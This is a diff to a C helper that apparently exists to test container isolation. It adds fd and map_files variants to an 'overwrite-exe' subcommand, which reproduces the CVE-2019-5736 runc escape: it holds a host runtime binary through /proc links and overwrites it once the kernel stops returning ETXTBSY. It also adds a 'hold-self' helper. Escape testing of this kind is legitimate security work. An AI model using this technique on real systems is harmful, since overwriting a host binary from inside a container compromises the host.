@@ -1182,16 +1182,57 @@ static int cmd_unix_self(int argc, char **argv)
 }
 
 /*
- * The CVE-2019-5736 pattern against a stand-in: hold /proc/PID/exe (O_PATH) of a host process
- * running the runtime's binary, retry opening it for writing through /proc/self/fd/N while the
- * kernel refuses (ETXTBSY: still executed), and write over it once it is not.
+ * The entry of /proc/PID/`dir` (fd, map_files) that leads to the same file as /proc/PID/exe,
+ * written into `out` as "/proc/PID/dir/NAME". stat(2) follows each link without opening it.
+ */
+static int proc_entry_of_exe(const char *pid, const char *dir, char *out, size_t outlen)
+{
+    char path[PATH_MAX];
+    struct stat exe, st;
+    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+    if (stat(path, &exe) != 0)
+        return -errno;
+    snprintf(path, sizeof(path), "/proc/%s/%s", pid, dir);
+    DIR *dp = opendir(path);
+    if (!dp)
+        return -errno;
+    int rc = -ENOENT;
+    struct dirent *de;
+    while ((de = readdir(dp)) != NULL) {
+        if (de->d_name[0] == '.')
+            continue;
+        snprintf(out, outlen, "/proc/%s/%s/%s", pid, dir, de->d_name);
+        if (stat(out, &st) == 0 && st.st_dev == exe.st_dev && st.st_ino == exe.st_ino) {
+            rc = 0;
+            break;
+        }
+    }
+    closedir(dp);
+    return rc;
+}
+
+/*
+ * The CVE-2019-5736 pattern against a stand-in: hold the binary of a host process running the
+ * runtime's binary (O_PATH) through one of its /proc links (VIA: exe, the default; fd, a
+ * descriptor the process keeps to it; map_files, its mapping, which needs CAP_SYS_ADMIN), retry
+ * opening it for writing through /proc/self/fd/N while the kernel refuses (ETXTBSY: still
+ * executed), and write over it once it is not. Until SECONDS have passed.
  */
 static int cmd_overwrite_exe(int argc, char **argv)
 {
-    if (argc != 2)
-        return usage("usage: overwrite-exe PID SECONDS");
-    char path[64];
-    snprintf(path, sizeof(path), "/proc/%s/exe", argv[0]);
+    if (argc != 2 && argc != 3)
+        return usage("usage: overwrite-exe PID SECONDS [exe|fd|map_files]");
+    const char *via = argc == 3 ? argv[2] : "exe";
+    char path[PATH_MAX];
+    if (strcmp(via, "exe") == 0) {
+        snprintf(path, sizeof(path), "/proc/%s/exe", argv[0]);
+    } else if (strcmp(via, "fd") == 0 || strcmp(via, "map_files") == 0) {
+        int rc = proc_entry_of_exe(argv[0], via, path, sizeof(path));
+        if (rc != 0)
+            return fail(-rc, "step=find");
+    } else {
+        return usage("bad VIA '%s'", via);
+    }
     int held = open(path, O_PATH | O_CLOEXEC);
     if (held < 0)
         return fail(errno, "step=hold");
@@ -1211,10 +1252,29 @@ static int cmd_overwrite_exe(int argc, char **argv)
         if (errno != ETXTBSY)
             return fail(errno, "step=open");
         refused++;
-        if (time(NULL) > deadline)
-            return fail(ETXTBSY, "step=deadline");
+        if (time(NULL) > deadline) {
+            char extra[64];
+            snprintf(extra, sizeof(extra), "step=deadline refused=%ld", refused);
+            return fail(ETXTBSY, extra);
+        }
         usleep(10000);
     }
+}
+
+/*
+ * A runtime's process keeping a descriptor to its own binary (read-only) while it runs: what
+ * a container can reach through /proc/PID/fd/N. Then sleeps SECONDS.
+ */
+static int cmd_hold_self(int argc, char **argv)
+{
+    if (argc != 1)
+        return usage("usage: hold-self SECONDS");
+    int fd = open("/proc/self/exe", O_RDONLY);
+    if (fd < 0)
+        return fail(errno, "step=open");
+    sleep((unsigned)strtoul(argv[0], NULL, 10));
+    close(fd);
+    return ok("fd=%d", fd);
 }
 
 /* finit_module(2) of the module file at PATH (a privileged container loading a module). */
@@ -1378,7 +1438,8 @@ static const struct {
     {"unix-connect", cmd_unix_connect, "PATH|@NAME [COUNT]"},
     {"unix-self", cmd_unix_self, "PATH|@NAME"},
     {"finit-module", cmd_finit_module, "PATH"},
-    {"overwrite-exe", cmd_overwrite_exe, "PID SECONDS"},
+    {"overwrite-exe", cmd_overwrite_exe, "PID SECONDS [exe|fd|map_files]"},
+    {"hold-self", cmd_hold_self, "SECONDS"},
     {"exec-from-thread", cmd_exec_from_thread, "PATH [ARGS...]"},
     {"delete-module", cmd_delete_module, "NAME"},
     {"fsmount", cmd_fsmount, "SOURCE FSTYPE TARGET|- [SECONDS]"},
